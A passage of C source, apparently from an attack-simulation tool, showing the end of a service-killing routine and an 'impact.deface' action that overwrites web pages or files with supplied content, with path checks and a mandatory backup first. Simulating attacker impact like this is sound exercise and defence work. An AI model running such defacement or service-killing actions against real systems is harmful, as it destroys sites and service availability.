        hp_detail(r, "service %s %s: %zu process%s killed%s%s", svc,
                  r->succeeded ? "stopped" : "not stopped", npids - alive,
                  npids - alive == 1 ? "" : "es", by_port ? " (found by its ports)" : "",
                  still ? ", still listening" : "");
    }
done:
    json_decref(jports);
    json_decref(jpids);
    return 0;
}

/* ===================================================================== */
/* impact.deface                                                         */
/* ===================================================================== */

/* Trees where pages and documents live (the rest of an absolute path given
 * to deface is taken as a URL path). */
static int hp_data_path(const char *abs)
{
    static const char *const tops[] = {"/srv", "/var", "/home", "/opt", "/tmp", "/root",
                                       "/mnt", NULL};

    for (int i = 0; tops[i]; i++)
        if (hp_under(abs, tops[i]))
            return 1;
    return 0;
}

int act_impact_deface(const act_req *q, act_result *r)
{
    const char *given = hp_str(q, "path", NULL), *content = hp_str(q, "content", NULL);
    char abs[PATH_MAX], full[PATH_MAX], bk[PATH_MAX];
    struct stat st;
    uid_t uid = (uid_t)-1;
    gid_t gid = (gid_t)-1;
    mode_t mode = 0644;
    long long before = -1;
    int b;

    if (given == NULL || content == NULL) {
        hp_detail(r, "impact.deface needs a path and content");
        return -1;
    }
    /* A path under one of the data trees is a file; any other (a URL path
     * like "/index.html", or a relative one) is a page of the web root. */
    if (given[0] == '/' && hp_data_path(given))
        snprintf(abs, sizeof(abs), "%s", given);
    else
        snprintf(abs, sizeof(abs), "%s%s%s", HP_WEB_ROOT, given[0] == '/' ? "" : "/", given);
    if (!hp_abs_ok(abs) || hp_protected(abs) || hp_path(q, abs, full, sizeof(full)) < 0) {
        hp_detail(r, "impact.deface: refusing path %.200s", abs);
        return -1;
    }
    if (lstat(full, &st) == 0) {
        if (!S_ISREG(st.st_mode)) {
            hp_detail(r, "%s is not a regular file", abs);
            return 0;
        }
        uid = st.st_uid;
        gid = st.st_gid;
        mode = st.st_mode & 07777;
        before = (long long)st.st_size;
        /* Recovery uses the copy in /srv/backup (made at boot by the server
         * image, or here when missing); nothing is left next to the page. */
        b = hp_backup_ensure(q, abs, bk, sizeof(bk));
        if (b < 0) {
            hp_detail(r, "no recovery copy of %s could be made: not defaced", abs);
            return 0;
        }
        hp_ev_str(r, "backup", bk);
        hp_ev_bool(r, "backup_added", b == 1);
    } else if (hp_parent_dirs(full, 0755, (uid_t)-1, (gid_t)-1) < 0) {
        hp_detail(r, "cannot make the folder of %s: %s", abs, strerror(errno));
        return 0;
    }
    if (hp_write_file(full, content, strlen(content), mode, uid, gid) < 0) {
        hp_detail(r, "cannot write %s: %s", abs, strerror(errno));
        return 0;
    }
    hp_ev_str(r, "path", abs);
    hp_ev_int(r, "bytes", (long long)strlen(content));
    if (before >= 0)
        hp_ev_int(r, "bytes_before", before);
    r->succeeded = 1;
    hp_detail(r, "%s replaced (%zu bytes)%s", abs, strlen(content),
              before < 0 ? ", it did not exist before" : "");
    return 0;
}
